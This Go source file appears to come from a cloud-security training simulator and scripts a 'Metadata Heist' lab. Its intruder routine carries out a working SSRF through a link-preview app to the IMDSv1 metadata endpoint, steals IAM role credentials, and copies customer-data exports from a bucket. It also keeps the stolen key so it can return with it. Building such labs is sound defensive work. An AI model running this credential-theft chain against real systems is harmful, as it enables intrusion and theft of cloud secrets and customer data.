package actors

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"

	"github.com/sakimori/sakimori/sim/aws/client"
)

// The Metadata Heist's traffic. WEB is the link-preview app's base URL,
// CLOUD the cloud endpoint.
func init() {
	labkit.RegisterScript("heist-users", heistUsers)
	labkit.RegisterScript("heist-intruder", heistIntruder)
}

// heistUsers: customers previewing links to the company's public assets.
func heistUsers(ctx context.Context, env labkit.Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	for labkit.Sleep(ctx, 20*time.Second) {
		labkit.Get(hc, web+"/", labkit.BrowserUA)
		labkit.Get(hc, web+"/fetch?url="+url.QueryEscape(cloud+"/acme-public/banner.txt"), labkit.BrowserUA)
	}
	return nil
}

// heistIntruder re-enacts the breach: the SSRF to the metadata service
// (IMDSv1, a plain GET through the proxy), then the role's key used from
// the attacker's own address to see who it is and take the exports. It
// keeps the credentials (in STOLEN, where the lab's check finds them) and
// comes back with them every few minutes, stealing afresh only when they
// stop working: turning IMDSv1 off does not take back a key already out.
func heistIntruder(ctx context.Context, env labkit.Env) error {
	web, cloud := env("WEB"), env("CLOUD")
	hc := &http.Client{Timeout: 10 * time.Second}
	in := &heist{hc: hc, web: web, cloud: cloud, kept: env("STOLEN")}
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), labkit.Duration(env, "EVERY", 3*time.Minute), in.once)
	return nil
}

type heist struct {
	hc               *http.Client
	web, cloud, kept string
	creds            *client.Credentials // the key in use; nil when it stopped working
	taken            map[string]bool     // exports already copied out
}

// intruderUA is the attacker's AWS CLI; command/ names the command run.
const intruderUA = "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/"

func (h *heist) once() error {
	creds, fresh := h.creds, false
	if creds == nil {
		var err error
		if creds, err = h.steal(); err != nil {
			return err
		}
		fresh = true
	}
	c := &client.Client{Endpoint: h.cloud, Creds: creds, UserAgent: intruderUA + "s3.ls"}
	res, err := c.S3("GET", "/acme-customer-data?list-type=2&prefix=exports/", nil)
	if err != nil {
		return err
	}
	if !res.OK() && !fresh {
		// The kept key stopped working: steal another, if the hole is open.
		h.creds = nil
		return h.once()
	}
	if !res.OK() {
		return fmt.Errorf("listing the exports: %s", res)
	}
	if fresh {
		c.UserAgent = intruderUA + "sts.get-caller-identity"
		if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
			return err
		}
		h.keep(creds)
	}
	c.UserAgent = intruderUA + "s3.cp"
	if h.taken == nil {
		h.taken = map[string]bool{}
	}
	for _, key := range client.ListKeys(res.Body) {
		if h.taken[key] {
			continue
		}
		if got, err := c.S3("GET", "/acme-customer-data/"+escapePath(key), nil); err != nil || !got.OK() {
			return fmt.Errorf("copying %s: %v %v", key, got, err)
		}
		h.taken[key] = true
	}
	return nil
}

// steal takes the role's credentials through the app's fetch.
func (h *heist) steal() (*client.Credentials, error) {
	const ua = "python-requests/2.31.0"
	const meta = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	role, err := labkit.Get(h.hc, h.web+"/fetch?url="+url.QueryEscape(meta), ua)
	if err != nil {
		return nil, err
	}
	doc, err := labkit.Get(h.hc, h.web+"/fetch?url="+url.QueryEscape(meta+strings.TrimSpace(role)), ua)
	if err != nil {
		return nil, err
	}
	var creds client.Credentials
	if err := json.Unmarshal([]byte(doc), &creds); err != nil || creds.AccessKeyID == "" {
		return nil, fmt.Errorf("no credentials in %q", doc)
	}
	return &creds, nil
}

// keep remembers the key, and writes it where the lab's check reads the
// intruder's last stolen key. The file stays when the key stops working:
// the check is whether that key still works.
func (h *heist) keep(creds *client.Credentials) {
	h.creds = creds
	if h.kept == "" {
		return
	}
	b, _ := json.Marshal(creds)
	if err := os.WriteFile(h.kept, b, 0o600); err != nil {
		labkit.Logger.Info("intruder: could not keep the key", "err", err)
	}
}

func escapePath(key string) string {
	parts := strings.Split(key, "/")
	for i, p := range parts {
		parts[i] = url.PathEscape(p)
	}
	return strings.Join(parts, "/")
}
